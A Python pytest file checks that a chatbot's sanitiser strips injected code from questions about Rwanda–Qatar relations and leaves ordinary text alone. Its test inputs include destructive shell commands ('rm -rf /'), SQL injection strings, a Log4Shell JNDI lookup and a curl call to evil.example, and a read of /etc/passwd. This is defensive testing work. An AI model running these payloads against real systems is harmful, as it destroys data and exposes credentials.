"""Code around a question is no part of it, and what only looks a little like code is."""

import pytest

from bot.dialogue import Dialogue
from bot.render.card import Status
from intents.typed.pasted_code import without_code


@pytest.mark.parametrize(
    "asked",
    [
        '"; rm -rf / # Qatar start date',
        "'); DELETE FROM facts; -- Qatar start date",
        "DROP TABLE facts; Qatar start date",
        "1; DROP TABLE facts; -- Qatar start date",
        "1' OR '1'='1'; -- Qatar start date",
        "Qatar start date; rm -rf /",
        "Qatar start date' UNION SELECT * FROM users --",
        "' OR 1=1; -- Qatar start date",
        '" or "1"="1 Qatar start date',
        "x' OR 1=1; -- Qatar start date",
        "admin' or 1=1 -- Qatar start date",
        "<b>DROP</b> when did relations begin with Qatar",
        "$(rm -rf /) Qatar start date",
        "`rm -rf /` when did relations begin with Qatar",
        "{{7*7}} Qatar start date",
        "${jndi:ldap://evil.example/a} Qatar start date",
        "; cat /etc/passwd | Qatar start date",
        "&& curl evil.example # Qatar start date",
        "/* hi */ when did relations with Qatar begin",
        "sudo rm -rf / --no-preserve-root; Qatar start date",
        "#channel; rm -rf /; Qatar start date",
        "#general Qatar start date",
    ],
)
async def test_a_question_with_code_around_it_is_answered(dialogue: Dialogue, asked: str) -> None:
    card = await dialogue.reply(asked, key=asked)
    assert (card.status, card.text) == (
        Status.ANSWERED,
        "Relations between Rwanda and Qatar began on 4 May 2017.",
    )


def test_words_before_code_are_no_part_of_the_question_behind_it() -> None:
    assert without_code("#general; rm -rf / ; when did relations with Peru begin").split(";")[-1].split()[0] == "when"


@pytest.mark.parametrize(
    "message",
    [
        "select countries from Africa",
        "embassies; select two from Africa",
        "which country would you delete from the list?",
        "{Qatar} when? and {{flag|Qatar}}",
        "it's the US' or China's embassy - where?",
        "rm -rf /",
        "Canada or the US - or = what",
        "cat or dog; drop a line",
    ],
)
def test_what_is_no_code_is_left(message: str) -> None:
    assert without_code(message) == message


@pytest.mark.parametrize(
    "sign", ["'", "' ", "(", "{", "/*", "{{a", "; drop table ", "' or 1=", "; select a", "rm -rf /"]
)
def test_looking_for_code_takes_no_longer_than_the_message_is_long(sign: str) -> None:
    message = sign * (20_000 // len(sign)) + " Qatar"
    assert len(without_code(message)) == len(message)
